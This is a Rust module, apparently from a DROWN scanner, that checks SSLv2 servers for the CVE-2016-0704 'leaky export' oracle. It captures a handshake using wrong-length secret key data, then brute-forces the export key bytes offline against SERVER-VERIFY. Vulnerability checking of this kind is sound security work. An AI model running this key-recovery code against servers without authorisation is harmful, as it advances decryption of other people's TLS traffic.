// Special DROWN with the "leaky export" oracle (CVE-2016-0704)
//
// Capture and analysis are separate phases. Capture sends correctly padded
// SECRET-KEY-DATA of the wrong length and stores the resulting handshake.
// Analysis runs fully offline: it brute-forces the export secret key bytes
// the server used and checks each candidate against SERVER-VERIFY.

use super::capability::{ExchangeOutcome, MasterKeyRequest, SessionProbe};
use super::rsa::RsaPublicContext;
use super::server_verify::{ServerVerifyChecker, SessionCapture};
use crate::constants::{DEFAULT_LEAKY_POLL_INTERVAL, LEAKY_EXPORT_BENCHMARK_BYTES};
use crate::error::DrownError;
use crate::ssl2::Ssl2CipherSuite;
use crate::Result;
use rand::Rng;
use std::fs;
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{self, RecvTimeoutError};
use std::thread;
use std::time::{Duration, Instant};
use tracing::{debug, info};

/// Snapshot persisted between the capture and the analysis phase
pub type LeakyExportCheckData = SessionCapture;

/// Connect once and capture a handshake for offline analysis.
///
/// Returns `Ok(None)` when the server does not speak SSLv2 at all.
pub fn capture_check_data<P: SessionProbe + ?Sized>(
    probe: &P,
    rsa: &RsaPublicContext,
    cipher_suite: Ssl2CipherSuite,
) -> Result<Option<LeakyExportCheckData>> {
    let mut rng = rand::thread_rng();

    // Correctly padded SECRET-KEY-DATA of the wrong length
    let secret_key = vec![0xFFu8; cipher_suite.secret_key_len() + 2];
    let encrypted_key = rsa.encrypt_pkcs1(&secret_key, &mut rng)?;

    let mut clear_key = vec![0u8; cipher_suite.clear_key_len()];
    rng.fill(&mut clear_key[..]);

    let request = MasterKeyRequest {
        cipher_suite,
        clear_key,
        encrypted_key,
        secret_key_plain: secret_key,
    };

    match probe.exchange_master_key(&request)? {
        ExchangeOutcome::NoServerHello => Ok(None),
        ExchangeOutcome::NoServerVerify => Err(DrownError::ProbeIncomplete {
            details: "server sent no SERVER-VERIFY for the wrong-length secret key".to_string(),
        }),
        ExchangeOutcome::ServerVerify(capture) => {
            info!("Completed server connection");
            Ok(Some(capture))
        }
    }
}

/// Write check data as JSON
pub fn save_check_data(path: &Path, data: &LeakyExportCheckData) -> Result<()> {
    let json = serde_json::to_string_pretty(data)?;
    fs::write(path, json).map_err(|source| DrownError::FileSystemError {
        path: path.display().to_string(),
        source,
    })?;
    info!("Wrote check data to {}", path.display());
    Ok(())
}

/// Read check data written by `save_check_data`
pub fn load_check_data(path: &Path) -> Result<LeakyExportCheckData> {
    let content = fs::read_to_string(path).map_err(|source| DrownError::FileSystemError {
        path: path.display().to_string(),
        source,
    })?;
    let data = serde_json::from_str(&content)?;
    info!("Check data read from {}", path.display());
    Ok(data)
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BruteForceOutcome {
    /// SECRET-KEY-DATA the server used
    Found { secret_key: Vec<u8> },
    /// Every candidate was tried without a match
    Exhausted,
}

/// Timing of a reduced brute force and its extrapolation
#[derive(Debug, Clone)]
pub struct BenchmarkReport {
    pub workers: usize,
    pub brute_forced_bytes: usize,
    pub elapsed: Duration,
    pub estimated_total: Duration,
    pub estimated_average: Duration,
}

/// Offline search over the unknown export secret key bytes
#[derive(Debug, Clone)]
pub struct LeakyExportBruteForcer {
    known_prefix: Vec<u8>,
    workers: usize,
    poll_interval: Duration,
}

impl LeakyExportBruteForcer {
    pub fn new(workers: usize) -> Self {
        Self {
            known_prefix: Vec::new(),
            workers: workers.clamp(1, 256),
            poll_interval: DEFAULT_LEAKY_POLL_INTERVAL,
        }
    }

    /// Fix the leading secret key bytes instead of searching them
    pub fn with_known_prefix(mut self, prefix: &[u8]) -> Self {
        self.known_prefix = prefix.to_vec();
        self
    }

    pub fn with_poll_interval(mut self, interval: Duration) -> Self {
        self.poll_interval = interval;
        self
    }

    pub fn workers(&self) -> usize {
        self.workers
    }

    /// Search the secret key space; first match wins.
    pub fn run(&self, data: &LeakyExportCheckData) -> Result<BruteForceOutcome> {
        let secret_len = data.cipher_suite.secret_key_len();
        if self.known_prefix.len() >= secret_len {
            return Err(DrownError::ConfigError {
                message: format!(
                    "Known prefix of {} bytes covers the whole {}-byte secret key",
                    self.known_prefix.len(),
                    secret_len
                ),
            });
        }

        let unknown = secret_len - self.known_prefix.len();
        let ranges = partition_first_byte(self.workers);
        let counters: Vec<AtomicU64> = ranges.iter().map(|_| AtomicU64::new(0)).collect();
        let progress_total = if unknown >= 2 { 256u64 * 256 } else { 256 };
        let cancel = AtomicBool::new(false);

        info!(
            "Brute-forcing {} secret key bytes using {} threads",
            unknown,
            ranges.len()
        );

        thread::scope(|scope| {
            let (tx, rx) = mpsc::channel();
            for (task, (&(from, to), counter)) in ranges.iter().zip(counters.iter()).enumerate() {
                let tx = tx.clone();
                let cancel = &cancel;
                let task_data = BruteForceTask {
                    data,
                    prefix: &self.known_prefix,
                    from,
                    to,
                    processed: counter,
                };
                let spawned = thread::Builder::new()
                    .name(format!("leaky-export-{}", task))
                    .spawn_scoped(scope, move || {
                        let result = task_data.run(cancel);
                        let _ = tx.send(result);
                    });
                if let Err(err) = spawned {
                    cancel.store(true, Ordering::Relaxed);
                    return Err(DrownError::from(err));
                }
            }
            drop(tx);

            let mut finished = 0;
            loop {
                match rx.recv_timeout(self.poll_interval) {
                    Ok(Some(secret_key)) => {
                        cancel.store(true, Ordering::Relaxed);
                        info!("Found server randomness, declaring host vulnerable");
                        return Ok(BruteForceOutcome::Found { secret_key });
                    }
                    Ok(None) => {
                        finished += 1;
                        debug!("A thread has finished ({}/{})", finished, ranges.len());
                        if finished == ranges.len() {
                            return Ok(BruteForceOutcome::Exhausted);
                        }
                    }
                    Err(RecvTimeoutError::Timeout) => {
                        let processed: u64 =
                            counters.iter().map(|c| c.load(Ordering::Relaxed)).sum();
                        info!(
                            "Brute-forced approx. {:.1} % so far",
                            processed as f64 / progress_total as f64 * 100.0
                        );
                    }
                    Err(RecvTimeoutError::Disconnected) => {
                        cancel.store(true, Ordering::Relaxed);
                        return Err(DrownError::Other(
                            "Brute-force worker stopped without reporting".to_string(),
                        ));
                    }
                }
            }
        })
    }

    /// Time a full search over the last few secret key bytes of random
    /// session data and extrapolate to the 5-byte export search.
    pub fn benchmark(cipher_suite: Ssl2CipherSuite, workers: usize) -> Result<BenchmarkReport> {
        let mut rng = rand::thread_rng();
        let secret_len = cipher_suite.secret_key_len();
        let searched = LEAKY_EXPORT_BENCHMARK_BYTES.min(secret_len);

        let mut random_bytes = |len: usize| {
            let mut bytes = vec![0u8; len];
            rng.fill(&mut bytes[..]);
            bytes
        };

        let base_secret = random_bytes(secret_len);
        let data = LeakyExportCheckData {
            cipher_suite,
            clear_key: random_bytes(cipher_suite.clear_key_len()),
            secret_key_plain: Vec::new(),
            secret_key_enc: Vec::new(),
            client_random: random_bytes(16),
            server_random: random_bytes(16),
            iv: vec![0u8; cipher_suite.block_size().unwrap_or(0)],
            encrypted_payload: random_bytes(40),
            padding_length: 0,
        };

        let forcer = LeakyExportBruteForcer::new(workers)
            .with_known_prefix(&base_secret[..secret_len - searched])
            .with_poll_interval(Duration::from_secs(3600));
        info!("Using {} threads", forcer.workers());

        let start = Instant::now();
        forcer.run(&data)?;
        let elapsed = start.elapsed();

        let scale = 256u32.pow((5usize.saturating_sub(searched)) as u32);
        let estimated_total = elapsed * scale;
        Ok(BenchmarkReport {
            workers: forcer.workers(),
            brute_forced_bytes: searched,
            elapsed,
            estimated_total,
            estimated_average: estimated_total / 2,
        })
    }
}

/// Split the first unknown byte into contiguous ranges, the last range
/// taking the remainder
fn partition_first_byte(workers: usize) -> Vec<(u16, u16)> {
    let tasks = workers.clamp(1, 256) as u16;
    let per_task = 256 / tasks;
    (0..tasks)
        .map(|i| {
            let from = i * per_task;
            let to = if i == tasks - 1 { 256 } else { from + per_task };
            (from, to)
        })
        .collect()
}

struct BruteForceTask<'a> {
    data: &'a LeakyExportCheckData,
    prefix: &'a [u8],
    from: u16,
    to: u16,
    /// Completed second-byte iterations (first-byte when only one byte is unknown)
    processed: &'a AtomicU64,
}

impl BruteForceTask<'_> {
    fn run(&self, cancel: &AtomicBool) -> Option<Vec<u8>> {
        let secret_len = self.data.cipher_suite.secret_key_len();
        let pos = self.prefix.len();
        let mut candidate = vec![0u8; secret_len];
        candidate[..pos].copy_from_slice(self.prefix);

        for first in self.from..self.to {
            candidate[pos] = first as u8;

            if pos + 1 == secret_len {
                if cancel.load(Ordering::Relaxed) {
                    return None;
                }
                if ServerVerifyChecker::check(self.data, &candidate, true) {
                    return Some(candidate);
                }
                self.processed.fetch_add(1, Ordering::Relaxed);
                continue;
            }

            for second in 0..=u8::MAX {
                candidate[pos + 1] = second;
                candidate[pos + 2..].fill(0);

                loop {
                    if cancel.load(Ordering::Relaxed) {
                        return None;
                    }
                    if ServerVerifyChecker::check(self.data, &candidate, true) {
                        return Some(candidate);
                    }
                    if !increment(&mut candidate[pos + 2..]) {
                        break;
                    }
                }
                self.processed.fetch_add(1, Ordering::Relaxed);
            }
        }

        None
    }
}

/// Big-endian odometer step; `false` once it wraps back to all zeros
fn increment(bytes: &mut [u8]) -> bool {
    for byte in bytes.iter_mut().rev() {
        if *byte == u8::MAX {
            *byte = 0;
        } else {
            *byte += 1;
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_partition_covers_byte_range() {
        for workers in [1usize, 2, 3, 7, 8, 256, 1000] {
            let ranges = partition_first_byte(workers);
            assert_eq!(ranges.first().unwrap().0, 0);
            assert_eq!(ranges.last().unwrap().1, 256);
            for pair in ranges.windows(2) {
                assert_eq!(pair[0].1, pair[1].0);
            }
            assert!(ranges.len() <= 256);
        }
    }

    #[test]
    fn test_increment_odometer() {
        let mut bytes = [0x00u8, 0xFF];
        assert!(increment(&mut bytes));
        assert_eq!(bytes, [0x01, 0x00]);

        let mut last = [0xFFu8, 0xFF];
        assert!(!increment(&mut last));
        assert_eq!(last, [0x00, 0x00]);

        assert!(!increment(&mut []));
    }

    #[test]
    fn test_prefix_covering_secret_is_rejected() {
        let data = crate::drown::server_verify::tests::capture_for(
            Ssl2CipherSuite::Rc4128Export40WithMd5,
            &[0u8; 11],
            &[1, 2, 3, 4, 5],
        );
        let forcer = LeakyExportBruteForcer::new(2).with_known_prefix(&[1, 2, 3, 4, 5]);
        assert!(matches!(
            forcer.run(&data),
            Err(DrownError::ConfigError { .. })
        ));
    }

    #[test]
    fn test_check_data_file_round_trip() {
        let data = crate::drown::server_verify::tests::capture_for(
            Ssl2CipherSuite::Rc2128CbcExport40WithMd5,
            &[7u8; 11],
            &[0xFF; 5],
        );
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("check.json");

        save_check_data(&path, &data).unwrap();
        let loaded = load_check_data(&path).unwrap();
        assert_eq!(loaded, data);
    }

    #[test]
    fn test_load_missing_file() {
        let err = load_check_data(Path::new("/nonexistent/check.json")).unwrap_err();
        assert!(matches!(err, DrownError::FileSystemError { .. }));
    }
}
